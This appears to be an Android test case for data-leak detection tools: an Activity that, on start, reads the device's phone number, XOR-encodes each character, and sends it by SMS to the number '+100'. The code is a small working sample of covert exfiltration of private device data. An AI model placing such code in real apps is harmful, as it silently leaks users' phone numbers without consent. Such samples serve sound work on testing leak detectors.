package org.example.flows.basic;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import org.example.flows.Device;

public class CharByChar extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        String number = Device.phone(this).getLine1Number();
        char[] turned = new char[number.length()];
        for (int at = 0; at < number.length(); at++) {
            turned[at] = (char) (number.charAt(at) ^ 7);
        }
        SmsManager.getDefault().sendTextMessage("+100", null, new String(turned), null, null);
    }
}
